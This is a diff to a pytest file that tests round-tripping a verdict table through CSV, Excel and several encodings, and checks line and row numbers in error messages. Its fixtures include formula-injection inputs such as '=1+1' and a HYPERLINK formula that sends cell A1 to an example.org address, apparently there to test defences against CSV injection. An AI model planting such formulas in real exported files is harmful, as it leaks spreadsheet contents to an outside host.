@@ -7,6 +7,7 @@ import stat
 import subprocess
 import sys
 
+import pandas as pd
 import pytest
 from fabricate import damage, fabricate
 from queueing import PATIENCE_SECONDS
@@ -275,6 +276,34 @@ def test_csv_goes_out_and_comes_back_once(tmp_path):
     assert current(tmp_path / "b")[content].equals(current(tmp_path / "a")[content])
     assert import_csv(tmp_path / "b", file, reader="carl") == {"added": 2, "known": 0}
     assert export_csv(tmp_path / "b", file, reader="carl") == 2
+
+
+def test_a_file_of_verdicts_comes_back_from_whatever_a_spreadsheet_makes_of_it(tmp_path):
+    judge(tmp_path / "a", "ann", DATA, "tr/ä,1", "wrong_label", 3, 'says "CNV";\nsure')
+    judge(tmp_path / "a", "bob", DATA, "+2", "hard", None, "=1+1")
+    export_csv(tmp_path / "a", file := tmp_path / "verdicts.csv")
+    table = pd.read_csv(file, dtype=str, keep_default_na=False)
+    table.to_excel(tmp_path / "verdicts.xlsx", index=False)
+    table.to_csv(tmp_path / "semicolons.csv", sep=";", index=False, encoding="utf-8-sig")
+    table.to_csv(tmp_path / "windows.csv", sep=";", index=False, encoding="cp1252")
+    table.to_csv(tmp_path / "unicode.txt", sep="\t", index=False, encoding="utf-16")
+    content = ["reader", "image_id", "verdict", "label", "note", "data_checksum", "time", "user"]
+    for name in ("verdicts.xlsx", "semicolons.csv", "windows.csv", "unicode.txt"):
+        assert import_csv(tmp_path / name.partition(".")[0], (tmp_path / name).read_bytes()) == {"added": 2, "known": 0}
+        assert current(tmp_path / name.partition(".")[0])[content].equals(current(tmp_path / "a")[content])
+
+
+def test_a_line_is_counted_as_an_editor_does_and_a_row_as_a_spreadsheet(tmp_path):
+    table = pd.DataFrame(
+        {"reader": "ann", "image_id": ["a", "b"], "verdict": ["hard", "odd"], "data_checksum": DATA, "note": ["\n", ""]}
+    )
+    for separator in ",;\t":
+        with pytest.raises(UserError, match="Line 4 of the file: There is no verdict 'odd'"):
+            import_csv(tmp_path, table.to_csv(index=False, sep=separator).encode())
+    table.to_excel(tmp_path / "verdicts.xlsx", index=False)
+    with pytest.raises(UserError, match="Row 3 of the file: There is no verdict 'odd'"):
+        import_csv(tmp_path, tmp_path / "verdicts.xlsx")
+    assert readers(tmp_path) == []
 
 
 FORMULA = '=HYPERLINK("http://example.org/"&A1,"open")'
